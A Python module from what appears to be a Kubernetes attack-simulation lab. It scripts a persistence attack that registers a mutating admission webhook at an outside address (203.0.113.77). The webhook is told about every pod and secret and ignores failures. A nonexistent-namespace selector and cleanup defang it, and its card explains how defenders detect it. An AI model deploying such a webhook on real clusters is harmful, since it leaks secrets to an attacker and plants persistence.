"""Attack: admission webhook that sees every secret.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

HOOKS = paths.group("admissionregistration.k8s.io/v1", "mutatingwebhookconfigurations")
"""Where webhooks of this kind are registered."""

CARD = base.Card(
    id="webhook-backdoor",
    title="Admission webhook that sees every secret",
    technique=base.Technique(id="T1546", name="Event Triggered Execution", tactic="Persistence"),
    use_case=vocabulary.UseCase.PERSISTENCE,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Registers an admission webhook at an address outside the cluster that is told about every pod and "
        "secret and never blocks anything."
    ),
    seen_by="A webhook configuration that points to a URL instead of a service, with failure ignored.",
    cleans_up="The webhook configuration is deleted.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    catalogues=("Microsoft: Malicious admission controller",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR, able=("POST", HOOKS))
    thief = ctx.act_as(victim)
    name = ctx.name("policy-audit")
    ctx.remove_later(f"{HOOKS}/{name}")
    # The selector names a namespace that does not exist, so no request of the cluster is held up by the simulation.
    hook = {
        "name": "audit.policy.example.com",
        "clientConfig": {"url": "https://203.0.113.77:8443/mutate"},
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "timeoutSeconds": 1,
        "admissionReviewVersions": ["v1"],
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": name}},
        "rules": [
            {
                "apiGroups": [""],
                "apiVersions": ["v1"],
                "resources": ["pods", "secrets"],
                "operations": ["CREATE", "UPDATE"],
            }
        ],
    }
    body = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [hook],
    }
    yield thief.create(HOOKS, body)
    yield thief.get(HOOKS)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
